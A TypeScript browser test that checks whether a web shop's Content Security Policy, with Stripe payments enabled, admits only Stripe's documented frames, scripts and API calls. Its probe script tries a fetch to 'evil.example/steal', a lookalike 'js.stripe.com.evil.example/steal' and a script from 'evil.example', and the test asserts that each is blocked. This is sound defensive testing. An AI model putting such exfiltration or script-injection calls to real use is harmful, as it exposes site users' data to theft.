import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { test, type TestContext } from 'node:test';
import fastify from 'fastify';
import { chromium, type Page } from 'playwright-core';
import { readSettings } from '#server/settings.ts';
import { contentSecurityPolicy, SECURITY_HEADERS } from '#server/platform/http/headers.ts';
import { pagePolicy } from '#server/page-policy.ts';

// What differs in the browser with CARDS=stripe: Stripe.js comes from js.stripe.com, brings frames of its own, for 3-D Secure one of
// hooks.stripe.com, and asks api.stripe.com. The official loader runs in Chromium under the headers of our pages; what stands at
// Stripe's addresses is the test's own, so that it shows what the policy lets through, not what Stripe answers.

const CHROMIUM = ['/usr/bin/chromium', chromium.executablePath()].find((candidate) => existsSync(candidate));
const LOADER = path.join(import.meta.dirname, '../../../node_modules/@stripe/stripe-js/dist/pure.mjs');
const STRIPE = {
  CARDS: 'stripe',
  STRIPE_SECRET_KEY: 'sk_test_page',
  STRIPE_PUBLISHABLE_KEY: 'pk_test_page',
  STRIPE_WEBHOOK_SECRET: 'whsec_page',
};

/** Tries everything and says what the policy refused, by address. */
const PROBE = `
import { loadStripe } from '/pure.mjs';
const refused = [];
addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective.replace('-elem', '') + ' ' + new URL(event.blockedURI).origin));
const settled = (element) => new Promise((resolve) => {
  element.onload = resolve;
  element.onerror = resolve;
  document.body.append(element);
});
const frame = (src) => settled(Object.assign(document.createElement('iframe'), { src }));
const script = (src) => settled(Object.assign(document.createElement('script'), { src }));
const ask = (address) => fetch(address).then(() => undefined, () => undefined);
window.probe = async (publishableKey) => {
  const stripe = await loadStripe(publishableKey, { locale: 'en' }).catch((failure) => ({ failure: failure.message }));
  await Promise.all([
    frame('https://js.stripe.com/v3/elements-inner-card.html'),
    frame('https://m.js.stripe.com/controller.html'),
    frame('https://hooks.stripe.com/3d_secure_2/begin'),
    frame('https://checkout.stripe.com/pay'),
    frame('https://bank.example/'),
    script('https://part.js.stripe.com/part.js'),
    script('https://hooks.stripe.com/part.js'),
    script('https://evil.example/part.js'),
    ask('https://api.stripe.com/v1/payment_intents/pi_1'),
    ask('https://evil.example/steal'),
    ask('https://js.stripe.com.evil.example/steal'),
  ]);
  return { stripe, refused: [...new Set(refused)].sort() };
};
`;

interface Probed {
  stripe: { key?: string; locale?: string; failure?: string };
  refused: string[];
}

/** A page under the headers that the market's pages have with these settings; anything else on the net is empty. */
async function openPage(t: TestContext, env: Record<string, string>): Promise<{ page: Page; asked: string[] }> {
  const app = fastify();
  t.after(() => app.close());
  const policy = contentSecurityPolicy({ ...pagePolicy(readSettings(env)), scriptHashes: [] });
  app.get('/', (_request, reply) =>
    reply
      .headers({ ...SECURITY_HEADERS, 'content-security-policy': policy })
      .type('text/html')
      .send('<!doctype html><title>Pay</title><body><script type="module" src="/probe.js"></script>'),
  );
  app.get('/probe.js', (_request, reply) => reply.type('text/javascript').send(PROBE));
  app.get('/pure.mjs', (_request, reply) => reply.type('text/javascript').send(readFileSync(LOADER)));
  await app.listen({ host: '127.0.0.1', port: 0 });
  const browser = await chromium.launch({ ...(CHROMIUM !== undefined && { executablePath: CHROMIUM }), args: ['--no-sandbox'] });
  t.after(() => browser.close());
  const page = await browser.newPage();
  const asked: string[] = [];
  await page.route(/^https:/, (route) => {
    const { hostname, pathname } = new URL(route.request().url());
    asked.push(hostname);
    if (!pathname.endsWith('.js'))
      return route.fulfill({ body: '<!doctype html>', contentType: 'text/html', headers: { 'access-control-allow-origin': '*' } });
    const body = 'window.Stripe = (key, options) => ({ key, ...options });';
    return route.fulfill({ body: pathname.endsWith('/stripe.js') ? body : '', contentType: 'text/javascript' });
  });
  const { port } = app.server.address() as AddressInfo;
  await page.goto(`http://127.0.0.1:${port}/`);
  await page.waitForFunction('window.probe !== undefined');
  return { page, asked };
}

const probe = (page: Page): Promise<Probed> => page.evaluate<Probed>('window.probe("pk_test_page")');

const options = { skip: CHROMIUM ? false : 'there is no Chromium' };

await test('CARDS=stripe: pages load exactly what Stripe documents', options, async (t) => {
  const { page, asked } = await openPage(t, STRIPE);
  const { stripe, refused } = await probe(page);
  assert.deepEqual(stripe, { key: 'pk_test_page', locale: 'en' }, 'the official loader brings Stripe.js');
  assert.deepEqual(refused, [
    'connect-src https://evil.example',
    'connect-src https://js.stripe.com.evil.example',
    'frame-src https://bank.example',
    'frame-src https://checkout.stripe.com',
    'script-src https://evil.example',
    'script-src https://hooks.stripe.com',
  ]);
  assert.deepEqual([...new Set(asked)].sort(), [
    'api.stripe.com',
    'hooks.stripe.com',
    'js.stripe.com',
    'm.js.stripe.com',
    'part.js.stripe.com',
  ]);
});

await test('CARDS=embedded: pages load nothing of anybody', options, async (t) => {
  const { page, asked } = await openPage(t, {});
  const { stripe, refused } = await probe(page);
  assert.equal(stripe.failure, 'Failed to load Stripe.js');
  assert.equal(refused.length, 12, refused.join('\n'));
  assert.deepEqual(asked, []);
});
